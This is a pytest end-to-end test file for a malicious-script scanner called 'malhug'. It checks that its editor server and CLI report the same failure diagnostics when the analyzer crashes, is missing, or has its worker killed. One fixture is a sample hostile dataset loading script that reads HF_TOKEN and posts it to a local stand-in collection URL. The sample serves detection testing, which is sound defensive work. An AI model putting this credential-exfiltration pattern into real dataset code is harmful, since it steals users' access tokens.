"""The editor fails closed like the CLI, over stdio: same hostile script, same rule ids.

Failures are injected without a hook in the product: a ``sitecustomize`` module on ``PYTHONPATH``
(written by the test) wraps the script analyzer in every process started with that environment
(the CLI, the server and its worker): a marker in the text makes it crash, or record its pid and
sleep so the test can SIGKILL the worker mid-analysis.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from lsprotocol import types

from tests.server.conftest import HubRepos
from tests.server.harness import change_doc, codes, open_doc, server_env, start_client, stop_client, wait_for

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]

HOOK = """
import os


def _install():
    import malhug.analyzers.scripts.analyzer as analyzer

    real = analyzer.analyze_text

    def analyze_text(text, *args, **kwargs):
        if "MALHUG_TEST_CRASH" in text:
            raise KeyError("injected by the test hook")
        if "MALHUG_TEST_SLOW" in text:
            with open(os.environ["MALHUG_TEST_PIDFILE"], "a") as fh:
                fh.write(f"{os.getpid()}\\n")
            import time

            time.sleep(120)
        return real(text, *args, **kwargs)

    analyzer.analyze_text = analyze_text


if os.environ.get("MALHUG_TEST_NO_ANALYZER"):
    import sys

    sys.modules["malhug.analyzers.scripts.analyzer"] = None  # every import of it raises ImportError
else:
    _install()
"""

FIXTURES = {
    # the script analysis' budget runs out (CPython parses it, nothing can follow it): MH902
    "deep_dataset.py": "import os\nx = " + "+".join(["1"] * 30_000) + "\n",
    # nothing of it parses: MH514
    "broken_dataset.py": "def f(:\n" * 200,
    # the analyzer crashes on it: MH903
    "crash_dataset.py": "# MALHUG_TEST_CRASH\nimport os\n",
}

LOADING_SCRIPT = """import os
import requests
import datasets


class Evil(datasets.GeneratorBasedBuilder):
    def _info(self):
        token = os.environ.get("HF_TOKEN")
        requests.post("http://127.0.0.1:9/collect", json={"t": token})
        return datasets.DatasetInfo()
"""


def hooked_env(tmp_path: Path, **extra: str) -> dict[str, str]:
    hooks = tmp_path / "hooks"
    hooks.mkdir(exist_ok=True)
    (hooks / "sitecustomize.py").write_text(HOOK, encoding="utf-8")
    path = os.pathsep.join([str(hooks), os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    return server_env(
        tmp_path, HF_HUB_OFFLINE="1", PYTHONPATH=path, MALHUG_TEST_PIDFILE=str(tmp_path / "pids"), **extra
    )


def cli_rules(path: Path, env: dict[str, str], exit_status: int = 1) -> set[str]:
    out = subprocess.run(
        [sys.executable, "-m", "malhug", "scan", "--format", "json", "--offline", "--no-cache", str(path)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    # suspicious: exit 1 at the default --fail-on; code too deep to parse is an error with only a failure: exit 2
    assert out.returncode == exit_status, out.stderr
    (report,) = json.loads(out.stdout)["files"]
    assert report["verdict"] != "clean"
    return {f["rule"] for f in report["findings"]}


async def test_cli_and_editor_report_the_same_failures(tmp_path: Path) -> None:
    env = hooked_env(tmp_path)
    ws = tmp_path / "ws"
    expected = {"deep_dataset.py": {"MH902"}, "broken_dataset.py": {"MH514"}, "crash_dataset.py": {"MH903"}}
    client = await start_client(tmp_path, env=env, init_options={"analyzeAllScripts": True, "logLevel": "info"})
    try:
        for name, text in FIXTURES.items():
            path = ws / name
            uri = open_doc(client, path, text)
            diags = await wait_for(lambda uri=uri: client.diagnostics.get(uri), what=f"diagnostics of {name}")
            from_cli = cli_rules(path, env, exit_status=2 if name == "deep_dataset.py" else 1)
            assert from_cli == expected[name]
            assert set(codes(diags)) == from_cli, name
            for diag in diags:
                assert diag.source == "malhug" and diag.severity == types.DiagnosticSeverity.Warning
                assert diag.range.start.line == 0
                assert "not fully analyzed" in diag.message or "could not be analyzed" in diag.message
        (crash,) = client.diagnostics[(ws / "crash_dataset.py").as_uri()]
        assert "KeyError" in crash.message and "injected by the test hook" in crash.message
        await wait_for(
            lambda: any("MH903 on" in m.message and "crash_dataset.py" in m.message for m in client.log_messages),
            what="the crash in the log",
        )
    finally:
        await stop_client(client)


async def test_script_analyzer_that_cannot_be_imported_is_mh903_in_both(tmp_path: Path) -> None:
    env = hooked_env(tmp_path, MALHUG_TEST_NO_ANALYZER="1")
    path = tmp_path / "ws" / "evil_dataset.py"
    client = await start_client(tmp_path, env=env)
    try:
        uri = open_doc(client, path, LOADING_SCRIPT)
        diags = await wait_for(
            lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH903"], what="MH903 on import failure"
        )
        assert "could not be loaded" in diags[0].message and "not fully analyzed" in diags[0].message
        assert diags[0].severity == types.DiagnosticSeverity.Warning and diags[0].range.start.line == 0
        assert cli_rules(path, env) == {"MH903"} == set(codes(client.diagnostics[uri]))
    finally:
        await stop_client(client)


async def _killed_worker(pids: Path, seen: int) -> int:
    lines = await wait_for(
        lambda: (pids.read_text().split() if pids.exists() else [])[seen:], what="the worker to start analyzing"
    )
    pid = int(lines[0])
    os.kill(pid, signal.SIGKILL)
    return pid


async def test_worker_killed_mid_analysis_is_reported_once_and_replaced(tmp_path: Path) -> None:
    env = hooked_env(tmp_path)
    pids = tmp_path / "pids"
    client = await start_client(tmp_path, env=env, init_options={"debounceMs": 20})
    try:
        slow = LOADING_SCRIPT + "# MALHUG_TEST_SLOW\n"
        uri = open_doc(client, tmp_path / "ws" / "evil_dataset.py", slow)
        first = await _killed_worker(pids, 0)

        def mh903(version: int) -> list[types.Diagnostic]:
            return [
                d
                for p in client.for_uri(uri)
                if p.version == version
                for d in p.diagnostics
                if d.code == "MH903" and "worker died" in d.message
            ]

        (diag,) = await wait_for(lambda: mh903(1), what="MH903 after the worker died")
        assert diag.severity == types.DiagnosticSeverity.Warning and diag.source == "malhug"
        assert diag.range.start.line == 0 and "not fully analyzed" in diag.message
        # The same hostile text again (a keystroke): the new worker dies too; still one message.
        change_doc(client, uri, slow + "\n", 2)
        second = await _killed_worker(pids, 1)
        assert second != first
        await wait_for(lambda: mh903(2), what="MH903 for version 2")
        warnings = [m for m in client.messages if "worker died" in m.message]
        assert len(warnings) == 1 and warnings[0].type == types.MessageType.Warning
        await wait_for(
            lambda: sum("worker died" in m.message for m in client.log_messages) == 2, what="one log line per death"
        )

        # A normal edit: analyzed in a fresh worker, the failure is gone.
        change_doc(client, uri, LOADING_SCRIPT, 3)
        last = await wait_for(
            lambda: [p for p in client.for_uri(uri) if p.version == 3 and "MH503" in codes(p.diagnostics)],
            what="MH503 from the new worker",
        )
        assert "MH903" not in codes(last[-1].diagnostics)
    finally:
        await stop_client(client)


async def test_hub_scan_failure_is_diagnosed_and_hovered_as_not_checked(tmp_path: Path, hub: HubRepos) -> None:
    hub.hub.fail_next(1000, status=500, match="/api/")
    client = await start_client(tmp_path, env=server_env(tmp_path, HF_ENDPOINT=hub.hub.endpoint))
    text = 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/evil")\n'
    try:
        uri = open_doc(client, tmp_path / "ws" / "use.py", text)
        diags = await wait_for(
            lambda: [d for d in client.diagnostics.get(uri, []) if d.code == "MH712"], timeout=60, what="MH712"
        )
        assert "could not be checked" in diags[0].message
        hover = await client.text_document_hover_async(
            types.HoverParams(
                text_document=types.TextDocumentIdentifier(uri=uri), position=types.Position(line=2, character=38)
            )
        )
        assert hover is not None
        value = hover.contents.value  # type: ignore[union-attr]
        assert "could not be checked" in value and "unverified" in value and "clean" not in value.split("\n")[0]
    finally:
        await stop_client(client)


async def test_workspace_scan_cut_at_its_file_limit_tells_the_user(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    for name in ("a.txt", "b.txt", "c.txt", "z_model.pkl"):
        (ws / name).write_bytes(b"\x80\x04N.")
    env = server_env(tmp_path, HF_HUB_OFFLINE="1")
    client = await start_client(tmp_path, env=env, init_options={"workspaceMaxFiles": 2})
    try:
        message = await wait_for(
            lambda: [m for m in client.messages if "workspaceMaxFiles" in m.message], what="the file-limit warning"
        )
        assert message[0].type == types.MessageType.Warning and "not checked" in message[0].message
    finally:
        await stop_client(client)
